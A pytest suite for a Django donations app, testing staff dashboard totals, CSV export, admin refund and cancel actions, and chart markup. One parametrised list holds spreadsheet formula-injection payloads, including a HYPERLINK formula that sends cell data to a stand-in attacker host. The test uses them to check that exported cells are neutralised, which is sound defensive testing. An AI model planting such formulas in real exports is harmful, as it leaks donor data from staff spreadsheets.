"""Staff: admin lists and actions, the CSV export and the dashboard, checked against the rows."""

import csv
import datetime
import io
import re
from decimal import Decimal

import pytest
from django.core import mail
from django.urls import reverse
from django.utils import timezone

from donations import reports
from donations.models import Payment, Subscription
from donations.services import webhook_path
from supporters.models import Supporter

from .conftest import start
from .factories import make_payment

pytestmark = pytest.mark.django_db


@pytest.fixture
def rows():
    now = timezone.now()
    last_month = timezone.localdate().replace(day=1) - datetime.timedelta(days=1)
    last_month_at = timezone.make_aware(datetime.datetime.combine(last_month, datetime.time(12)))
    ann = Supporter.objects.create(email="ann@example.org", name="Ann")
    bob = Supporter.objects.create(email="bob@example.org", name="Bob")
    made = [
        make_payment(ann, amount="10.00", paid_at=now),
        make_payment(ann, amount="25.00", paid_at=now, refunded="5.00"),
        make_payment(bob, amount="7.50", paid_at=now, kind="recurring"),
        make_payment(bob, amount="99.00", paid_at=now, status="failed"),
        make_payment(bob, amount="40.00", paid_at=last_month_at),
    ]
    return made


def test_dashboard_numbers_match_the_rows(staff, rows):
    response = staff.get(reverse("staff:dashboard"))
    assert response.status_code == 200
    this_month = response.context["this_month"]
    assert this_month.total == Decimal("37.50")  # 10 + (25 - 5) + 7.50; the failed one not
    assert this_month.oneoff == Decimal("30.00") and this_month.monthly == Decimal("7.50")
    assert this_month.gifts == 3
    assert response.context["last_month"].total == Decimal("40.00")
    today = next(e for e in response.context["series"] if e["day"] == timezone.localdate())
    assert today["total"] == Decimal("37.50") and today["gifts"] == 3
    assert len(response.context["series"]) == 90
    html = response.content.decode()
    assert "<svg" in html and "<rect" in html and "<script" not in html.split("<svg")[1][:5000]


def test_dashboard_query_count_does_not_grow_with_rows(staff, rows, django_assert_num_queries):
    staff.get(reverse("staff:dashboard"))  # warm the session and user lookups
    with django_assert_num_queries(8):
        staff.get(reverse("staff:dashboard"))
    for _ in range(20):
        make_payment(rows[0].supporter, amount="3.00", paid_at=timezone.now())
    with django_assert_num_queries(8):
        staff.get(reverse("staff:dashboard"))


def test_dashboard_is_for_staff_only(client):
    response = client.get(reverse("staff:dashboard"))
    assert response.status_code == 302 and "/admin/login/" in response["Location"]


def test_csv_export_matches_the_rows(staff, rows):
    today = timezone.localdate()
    response = staff.get(reverse("staff:payments_export"), {"start": today, "end": today})
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv"
    body = b"".join(response.streaming_content).decode()
    lines = list(csv.DictReader(io.StringIO(body)))
    assert {line["mollie_id"] for line in lines} == {p.mollie_id for p in rows}
    by_id = {line["mollie_id"]: line for line in lines}
    refunded = rows[1]
    assert by_id[refunded.mollie_id]["amount_refunded"] == "5.00"
    assert by_id[refunded.mollie_id]["supporter_email"] == "ann@example.org"


def test_the_export_page_offers_this_month(staff):
    response = staff.get(reverse("staff:payments_export"))
    assert response.status_code == 200
    page = response.content.decode()
    assert 'value="2026-06-01"' in page and 'value="2026-06-15"' in page


@pytest.mark.parametrize(
    "query",
    [
        {"start": "", "end": ""},
        {"start": "2026-02-30", "end": "2026-03-01"},
        {"start": "2026-03-02", "end": "2026-03-01"},
        {"start": "9999-12-31", "end": "9999-12-31"},  # once a 500 (a day past the last date)
        {"start": "0001-01-01", "end": "0001-01-02"},
        {"start": "1999-12-31", "end": "2000-01-02"},
    ],
)
def test_csv_export_bad_dates_get_a_message(staff, query):
    response = staff.get(reverse("staff:payments_export"), query)
    assert response.status_code == 400
    assert "errornote" in response.content.decode()


def test_admin_lists_search_and_filter(staff, rows):
    for name in ("payment", "donation", "subscription"):
        assert staff.get(reverse(f"admin:donations_{name}_changelist")).status_code == 200
    found = staff.get(reverse("admin:donations_payment_changelist"), {"q": "bob@example.org"})
    assert found.context["cl"].result_count == 3
    failed = staff.get(reverse("admin:donations_payment_changelist"), {"status__exact": "failed"})
    assert failed.context["cl"].result_count == 1
    page = staff.get(reverse("admin:donations_payment_change", args=[rows[0].pk]))
    assert page.status_code == 200 and 'name="status"' not in page.content.decode()
    supporter = staff.get(reverse("admin:supporters_supporter_change", args=[rows[0].supporter_id]))
    assert 'name="donations-TOTAL_FORMS"' in supporter.content.decode()


def test_admin_refund_action_goes_through_mollie(staff, mollie):
    _, mollie_id = start(staff)
    mollie.checkout(mollie_id, "paid")
    staff.post(webhook_path(), {"id": mollie_id})
    payment = Payment.objects.get(mollie_id=mollie_id)
    url = reverse("admin:donations_payment_changelist")
    confirm = staff.post(url, {"action": "refund", "_selected_action": [payment.pk]})
    assert "Refund payments" in confirm.content.decode()
    done = staff.post(
        url,
        {"action": "refund", "_selected_action": [payment.pk], "confirm": "yes", "amount": "5"},
    )
    assert done.status_code == 302
    payment.refresh_from_db()
    assert payment.amount_refunded == Decimal("5.00") and payment.status == "paid"
    refunds = [r for r in mollie.store.refunds.values() if r["paymentId"] == mollie_id]
    assert len(refunds) == 1


def test_admin_cancel_action_stops_the_gift(staff, mollie):
    _, mollie_id = start(staff, frequency="monthly")
    mollie.checkout(mollie_id, "paid")
    staff.post(webhook_path(), {"id": mollie_id})
    subscription = Subscription.objects.get()
    url = reverse("admin:donations_subscription_changelist")
    staff.post(url, {"action": "cancel", "_selected_action": [subscription.pk], "confirm": "yes"})
    subscription.refresh_from_db()
    assert subscription.status == "canceled"
    assert mollie.store.subscriptions[subscription.mollie_id]["status"] == "canceled"
    assert "Your regular gift has stopped" in [m.subject for m in mail.outbox]


def test_reports_aggregate_in_the_database(rows, django_assert_num_queries):
    with django_assert_num_queries(2):
        reports.month_totals(timezone.localdate())
    with django_assert_num_queries(1):
        reports.gifts_per_day(timezone.localdate())


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A2,"receipt")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
]


@pytest.mark.parametrize("name", FORMULAS)
def test_csv_cells_are_never_formulas(staff, name):
    """Finding 4: what a donor typed reaches the sheet as text (OWASP: a leading quote)."""
    supporter = Supporter.objects.create(email="f@example.org", name=name)
    make_payment(supporter, "5.00")
    today = timezone.localdate().isoformat()
    response = staff.get(reverse("staff:payments_export"), {"start": today, "end": today})
    body = b"".join(response.streaming_content).decode()
    (row,) = list(csv.DictReader(io.StringIO(body)))
    assert row["supporter_name"] == "'" + name
    for cell in row.values():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_the_dashboard_speaks_in_plurals_and_counts_donors_who_paid(staff, rows):
    Supporter.objects.create(email="never-paid@example.org", name="Typed only")
    from donations.models import Donor

    for supporter in Supporter.objects.filter(email__in=["ann@example.org", "bob@example.org"]):
        Donor.objects.create(supporter=supporter, first_gift_at=timezone.now())
    response = staff.get(reverse("staff:dashboard"))
    assert response.context["this_month"].new_donors == 2  # not the one who never paid
    html = response.content.decode()
    assert "New donors (first gift paid)" in html
    assert "0 active monthly donors give" in html
    Subscription.objects.create(
        mollie_id="sub_one",
        donation=rows[0].donation,
        supporter=Supporter.objects.get(email="ann@example.org"),
        customer_id="cst_x",
        amount=Decimal("10"),
        status="active",
        start_date=timezone.localdate(),
    )
    html = staff.get(reverse("staff:dashboard")).content.decode()
    assert "1 active monthly donor gives" in html


def test_every_chart_has_labelled_axes_and_each_bar_its_value(staff, rows):
    for path in (reverse("staff:dashboard"), reverse("staff:regular_giving")):
        html = staff.get(path).content.decode()
        for chart in html.split('<svg class="chart"')[1:]:
            chart = chart.split("</svg>")[0]
            assert chart.count('class="axis"') == 2 and 'class="axis-title"' in chart
            assert 'class="tick"' in chart and "<title>" in chart


def test_a_chart_s_axis_title_sits_above_its_highest_value_and_percentages_say_so():
    from donations.reports import chart_bars

    chart = chart_bars([{"total": Decimal("12.50")}, {"total": Decimal("5")}])
    highest = min(tick["y"] for tick in chart["axis"]["ticks"])
    # The title is drawn from y=4 down, one line of 12 px: the top label (centred on its y)
    # starts below it.
    assert highest - 6 > 4 + 14
    nothing = chart_bars([{"total": Decimal("0")}, {"total": None}])
    assert [tick["value"] for tick in nothing["axis"]["ticks"]] == [0]  # not "0, 0, 0"


def test_percentage_charts_mark_their_ticks(staff, rows):
    html = staff.get(reverse("staff:regular_giving")).content.decode()
    churn = html.split('<svg class="chart"')[2].split("</svg>")[0]
    assert re.search(r'<text class="tick"[^>]*>0%</text>', churn), churn[:400]
